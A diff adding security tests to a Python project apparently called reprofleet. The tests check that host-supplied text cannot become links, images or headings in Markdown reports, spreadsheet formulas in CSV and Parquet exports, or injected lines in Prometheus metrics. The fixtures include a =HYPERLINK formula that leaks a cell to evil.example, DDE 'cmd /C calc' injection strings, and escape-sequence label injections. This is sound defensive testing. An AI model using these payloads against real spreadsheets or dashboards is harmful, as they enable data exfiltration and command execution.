@@ -7,6 +7,7 @@ report.md's code span, so what followed became links and images in a pasted bug 
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 from typing import Any
 
@@ -67,3 +68,77 @@ def test_a_code_span_renders_back_to_exactly_the_text_it_quotes(text: str) -> No
     html = markdown_html(f"| a |\n| --- |\n| {code_span(text)} |\n")
     cell = html.split("<td>", 1)[1].split("</td>", 1)[0]
     assert cell == "<code>" + text.replace("&", "&amp;").replace("<", "&lt;") + "</code>"
+
+
+# -- reasons, BMC events and the verdicts that quote them (issue 34) -----------------------------
+MARKDOWN_ATTACK = ("x` [bug tracker](https://evil.example/r) ![pixel](https://evil.example/p.png) "
+                   "<img src=https://evil.example/i> *bold* \n# owned heading\n`` ~~gone~~ &lt;")
+
+
+def reasons_campaign(folder: Path) -> Path:
+    """A campaign whose infra reasons (one not run, one excluded) and BMC event are the attack."""
+    content: dict[str, Any] = build(Spec(attempts=3))
+    records = content["records"]
+    records[0].update(outcome="infra", reason=f"not run: {MARKDOWN_ATTACK}")
+    records[1].update(outcome="infra", reason=MARKDOWN_ATTACK)
+    for record in records:
+        if record["outcome"] in ("wedge", "reboot"):
+            record["forensics"] = {**(record.get("forensics") or {}),
+                                   "bmc_events": [{"severity": "Critical", "message": MARKDOWN_ATTACK}]}
+    return write(folder, content)
+
+
+def test_a_hosts_reason_and_bmc_event_are_no_link_image_or_heading_in_report_md(tmp_path: Path) -> None:
+    pool = load_pool([reasons_campaign(tmp_path / "c")])
+    judgement = judge(pool)
+    markdown = render_markdown(judgement, pool.records, "t")
+    assert "evil.example" in markdown and any("evil.example" in v.text for v in judgement.verdicts)
+    html = markdown_html(markdown)
+    assert "<a " not in html and "<img" not in html and "<em>" not in html and "<del>" not in html
+    assert "owned heading</h" not in html and "<h1>t</h1>" in html
+    assert html.count("evil.example/r") == markdown.count("evil.example/r")  # every one shown, inside <code>
+    for quoted in re.findall(r"<code>(.*?)</code>", html, re.S):
+        assert "\n" not in quoted
+
+
+# -- the CSV and Parquet export (issue 34): a host's text is never a formula, a number stays one ---
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+
+
+def test_a_formula_in_a_hosts_text_is_text_in_csv_and_parquet_and_negative_numbers_stay_numbers(
+        tmp_path: Path) -> None:
+    import csv
+    import io
+
+    import pyarrow.parquet as pq
+
+    from reprofleet.report.export import ExportFormat, ExportRequest, export_rows
+
+    content: dict[str, Any] = build(Spec(attempts=3))
+    attacks = {0: FORMULA, 1: "@SUM(1+1)*cmd|' /C calc'!A0", 2: "+1+1", 3: "-2+3+cmd|' /C calc'!A0", 4: "\t=1"}
+    for index, line in attacks.items():
+        content["records"][index].update(last_log_line=line, reason=line, exit_code=-9)
+    folder = write(tmp_path / "c", content)
+    text = export_rows(ExportRequest((folder,), ExportFormat.CSV)).text
+    assert text is not None
+    rows = {row["last_log_line"]: row for row in csv.DictReader(io.StringIO(text))}
+    for line in attacks.values():
+        assert rows["'" + line]["reason"] == "'" + line and rows["'" + line]["exit_code"] == "-9"
+    assert not any(cell.startswith(("=", "+", "@", "\t")) or (cell.startswith("-") and cell != "-9")
+                   for row in rows.values() for cell in row.values() if cell)
+    export_rows(ExportRequest((folder,), ExportFormat.PARQUET, tmp_path / "a.parquet"))
+    table = pq.read_table(tmp_path / "a.parquet").to_pylist()
+    assert {r["last_log_line"] for r in table} >= {"'" + line for line in attacks.values()}
+    assert {r["exit_code"] for r in table if (r["last_log_line"] or "").startswith("'")} == {-9}
+
+
+def test_a_hosts_text_in_a_prometheus_label_is_one_escaped_value_on_its_line() -> None:
+    """Label values per the exposition format (backslash, quote, newline escaped), controls gone (issue 34)."""
+    from reprofleet.records.prometheus import Family, render, sample
+
+    attack = 'ws1"} 1\nreprofleet_owned{x="\\\x1b]0;title\x07\r'
+    text = render([Family("reprofleet_attempts_total", "help\nwith \x1b[2J a line", "counter",
+                          (sample(3, campaign="c", host=attack),))])
+    lines = text.splitlines()
+    assert lines == ["# HELP reprofleet_attempts_total help\\nwith  a line", "# TYPE reprofleet_attempts_total counter",
+                     'reprofleet_attempts_total{campaign="c",host="ws1\\"} 1\\nreprofleet_owned{x=\\"\\\\"} 3']
